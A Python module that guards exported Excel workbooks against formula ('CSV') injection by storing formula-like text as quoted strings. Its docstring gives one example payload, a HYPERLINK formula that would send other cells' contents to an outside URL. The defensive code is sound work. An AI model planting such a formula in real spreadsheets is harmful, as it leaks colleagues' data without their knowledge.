"""Workbooks we write hold data, never formulas (OWASP "CSV injection").

openpyxl stores any text that starts with ``=`` as a formula, and Excel runs a typed ``+``,
``-`` or ``@`` as one when the cell is edited: a unit name ``=HYPERLINK("http://…?d="&B5)``
set by one HR officer would become a live link carrying other cells when another opens the
file. Every workbook goes through `as_data` before it is saved.
"""

from __future__ import annotations

from openpyxl.workbook.workbook import Workbook

from common.inputs import starts_like_formula


def as_data(workbook: Workbook) -> Workbook:
    """Every text cell of every sheet kept as text: a cell that would read as a formula is
    stored as a string with Excel's quote prefix (shown as typed, never evaluated)."""
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (isinstance(value, str) and starts_like_formula(value)):
                    cell.value = str(value)
                    cell.data_type = "s"
                    cell.quotePrefix = True
    return workbook


def workbook_bytes(workbook: Workbook) -> bytes:
    import io

    out = io.BytesIO()
    as_data(workbook).save(out)
    return out.getvalue()
